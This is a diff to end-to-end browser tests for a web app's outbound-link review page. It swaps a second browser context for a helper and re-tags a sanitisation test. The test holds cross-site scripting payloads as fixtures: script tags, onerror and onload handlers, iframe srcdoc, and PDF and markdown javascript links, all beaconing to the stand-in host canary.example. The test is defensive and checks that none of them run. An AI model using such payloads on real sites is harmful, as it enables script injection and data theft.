@@ -5,7 +5,7 @@ import { links, officerOf, reviewOf, statusOf } from '../apps/server/src/outboun
 import type { MadeLink } from '../apps/server/src/outbound/outbound.test-support.ts';
 import type { Company, Person } from '../apps/server/src/testing/index.ts';
 import { administrator, noFault, officer } from './admin.ts';
-import { enter, expect, test } from './company.ts';
+import { byOtherName, enter, expect, pageBeside, test } from './company.ts';
 import { inBothLooks, startWalk, walksOf } from './looks.ts';
 import { pdfOf } from './pdfs.ts';
 
@@ -120,7 +120,6 @@ test('one’s own link is shown and cannot be decided, whatever key is pressed',
 });
 
 test('what another reviewer decided, or what changed meanwhile, is said, and the buttons go', async ({
-  browser,
   company,
   person,
   signedIn: page,
@@ -134,10 +133,8 @@ test('what another reviewer decided, or what changed meanwhile, is said, and the
   const changed = await asks(company, person, `${stem} 二`, { 'b.txt': `${word}，第一版` });
   await page.goto(address(person, stem));
   await expect(page.getByRole('button', { name: '通过', exact: true })).toBeVisible();
-  const context = await browser.newContext({ locale: 'zh-CN' });
-  await enter(context, other);
-  const second = await context.newPage();
-  await second.goto(address(person, stem));
+  const second = await pageBeside(page, other);
+  await second.goto(byOtherName(address(person, stem)));
   await expect(second.getByRole('button', { name: '通过', exact: true })).toBeVisible();
   await second.getByRole('textbox', { name: '理由' }).fill('先不发');
   await second.getByRole('button', { name: '拒绝', exact: true }).click({ delay: 700 });
@@ -159,7 +156,7 @@ test('what another reviewer decided, or what changed meanwhile, is said, and the
   await expect(rowOf(page, `${stem} 二`)).toBeVisible();
   await rowOf(page, `${stem} 二`).click();
   await expect(page.getByText(`${word}，第二版`)).toBeVisible();
-  await context.close();
+  await second.close();
 });
 
 test('a double click, and a key that is held, decide one review and not the next', async ({ company, person, signedIn: page }) => {
@@ -184,39 +181,43 @@ test('a double click, and a key that is held, decide one review and not the next
   expect(states).toEqual(['valid', 'valid', 'verifying']);
 });
 
-test('nothing in what is reviewed runs in the reviewer’s session, or calls home', async ({ company, person, signedIn: page }) => {
-  await officer(company, person, 'links.review');
-  const name = named('金丝雀');
-  const canary = (from: string): string =>
-    `top.document.title='owned';localStorage.setItem('owned','${from}');new Image().src='https://canary.example/${from}'`;
-  await asks(company, person, name, {
-    'a.html': `<title>${word}</title><script>${canary('script')}</script><img src=x onerror="${canary('onerror')}"><iframe srcdoc="<script>${canary('frame')}</script>"></iframe><link rel="stylesheet" href="https://canary.example/css"><p>第一页</p>`,
-    'b.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${canary('onload')}"><script>${canary('svg')}</script><rect width="90" height="60" fill="#0b6e6e"/><image href="https://canary.example/svg.png"/></svg>`,
-    'c.pdf': pdfOf(['canary'], { links: ["javascript:top.document.title='owned'"], script: "app.alert\\('owned'\\)" }),
-    'd.md': `# ${word}\n\n<script>${canary('markdown')}</script><img src=x onerror="${canary('md')}"> ![x](https://canary.example/md.png) [外](javascript:top.document.title='owned')`,
-  });
-  const outside: string[] = [];
-  page.on('request', (request) => void (request.url().includes('canary.example') && outside.push(request.url())));
-  page.on('dialog', () => outside.push('dialog'));
-  const downloads: string[] = [];
-  page.on('download', (download) => downloads.push(download.suggestedFilename()));
-  await page.goto(address(person, name));
-  const content = page.getByRole('region', { name: '本次外发的文件' });
-  const open = (file: string) => content.getByRole('button', { name: new RegExp(`^${file}`) }).click();
-  await open('a.html');
-  await expect(content.frameLocator('iframe').getByText('第一页')).toBeVisible();
-  await open('b.svg');
-  await expect(content.locator('img[data-ready]')).toBeVisible({ timeout: 60_000 }); // it is drawn again, as slowly as need be
-  await open('c.pdf');
-  await expect(content.locator('canvas').first()).toBeVisible();
-  await open('d.md');
-  await expect(content.getByRole('heading', { name: word })).toBeVisible();
-  await page.waitForTimeout(500);
-  expect(outside).toEqual([]);
-  expect(downloads).toEqual([]);
-  expect(await page.title()).not.toContain('owned');
-  expect(await page.evaluate(() => localStorage.getItem('owned'))).toBe(null);
-});
+test(
+  'nothing in what is reviewed runs in the reviewer’s session, or calls home',
+  { tag: '@thorough' },
+  async ({ company, person, signedIn: page }) => {
+    await officer(company, person, 'links.review');
+    const name = named('金丝雀');
+    const canary = (from: string): string =>
+      `top.document.title='owned';localStorage.setItem('owned','${from}');new Image().src='https://canary.example/${from}'`;
+    await asks(company, person, name, {
+      'a.html': `<title>${word}</title><script>${canary('script')}</script><img src=x onerror="${canary('onerror')}"><iframe srcdoc="<script>${canary('frame')}</script>"></iframe><link rel="stylesheet" href="https://canary.example/css"><p>第一页</p>`,
+      'b.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${canary('onload')}"><script>${canary('svg')}</script><rect width="90" height="60" fill="#0b6e6e"/><image href="https://canary.example/svg.png"/></svg>`,
+      'c.pdf': pdfOf(['canary'], { links: ["javascript:top.document.title='owned'"], script: "app.alert\\('owned'\\)" }),
+      'd.md': `# ${word}\n\n<script>${canary('markdown')}</script><img src=x onerror="${canary('md')}"> ![x](https://canary.example/md.png) [外](javascript:top.document.title='owned')`,
+    });
+    const outside: string[] = [];
+    page.on('request', (request) => void (request.url().includes('canary.example') && outside.push(request.url())));
+    page.on('dialog', () => outside.push('dialog'));
+    const downloads: string[] = [];
+    page.on('download', (download) => downloads.push(download.suggestedFilename()));
+    await page.goto(address(person, name));
+    const content = page.getByRole('region', { name: '本次外发的文件' });
+    const open = (file: string) => content.getByRole('button', { name: new RegExp(`^${file}`) }).click();
+    await open('a.html');
+    await expect(content.frameLocator('iframe').getByText('第一页')).toBeVisible();
+    await open('b.svg');
+    await expect(content.locator('img[data-ready]')).toBeVisible({ timeout: 60_000 }); // it is drawn again, as slowly as need be
+    await open('c.pdf');
+    await expect(content.locator('canvas').first()).toBeVisible();
+    await open('d.md');
+    await expect(content.getByRole('heading', { name: word })).toBeVisible();
+    await page.waitForTimeout(500);
+    expect(outside).toEqual([]);
+    expect(downloads).toEqual([]);
+    expect(await page.title()).not.toContain('owned');
+    expect(await page.evaluate(() => localStorage.getItem('owned'))).toBe(null);
+  },
+);
 
 test('who may not review gets no entry and no page; the entry counts what waits, as it comes', async ({
   company,
